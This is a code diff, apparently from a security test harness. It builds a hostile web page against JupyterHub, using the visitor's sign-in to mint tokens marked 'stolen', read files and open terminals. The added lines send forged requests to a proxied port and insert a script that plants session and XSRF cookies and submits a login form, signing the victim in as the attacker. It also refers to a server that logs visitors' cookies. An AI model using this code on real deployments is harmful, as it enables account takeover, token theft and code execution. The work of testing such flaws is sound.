@@ -22,7 +22,7 @@ web.Application.find_handler = find_mine
 # The page: it uses the sign-in of who opens it, by requests and by windows whose scripts it calls.
 PAGE = """
 <script>
-const [hub, server, name] = JSON.parse(decodeURIComponent(location.hash.slice(1)));
+const [hub, server, name, port] = JSON.parse(decodeURIComponent(location.hash.slice(1)));
 const tokens = `${hub}/hub/api/users/${name}/tokens`;
 const rights = JSON.stringify({scopes: ["inherit"], note: "stolen"});
 const ask = (way, address, method, token, body, more) =>
@@ -44,6 +44,10 @@ const tries = {
     mint: () => ask(fetch, tokens, "POST", null, rights),
     files: () => ask(fetch, `${server}/api/contents`, "GET"),
     terminal: () => ask(fetch, `${server}/api/terminals`, "POST"),
+    program: () => ask(fetch, `${server}/proxy/${port}/forged`, "GET", null, undefined,
+                       {mode: "no-cors"}),
+    "program: form": () => ask(fetch, `${server}/proxy/${port}/forged`, "POST", null, "x",
+                               {mode: "no-cors"}),
     blindly: () => ask(fetch, tokens, "POST", null, rights, {mode: "no-cors"}),
     "window: mint": async () => {
         const other = await inside(`${hub}/hub/token`);
@@ -72,6 +76,25 @@ const tries = {
     window.happened = happened;
 })();
 </script>
+"""
+# Signs in whoever opens her page as her: the form of the Hub, and the cookies that it belongs to.
+SIGN_IN = """
+([address, name, password, token, session]) => {
+    const domain = new URL(address).hostname;
+    document.cookie = `_xsrf=${token}; Domain=${domain}; Path=/hub/`;
+    document.cookie = `jupyterhub-session-id=${session}; Domain=${domain}; Path=/hub/`;
+    const form = document.createElement("form");
+    form.method = "POST";
+    form.action = `${address}/hub/login?next=/hub/home`;
+    for (const [key, value] of Object.entries({username: name, password, _xsrf: token})) {
+        const input = document.createElement("input");
+        input.name = key;
+        input.value = value;
+        form.append(input);
+    }
+    document.body.append(form);
+    form.submit();
+}
 """
 # A web server for whoever comes, at these ports of the machine, each as soon as it is free; it
 # remembers each request and its cookies.
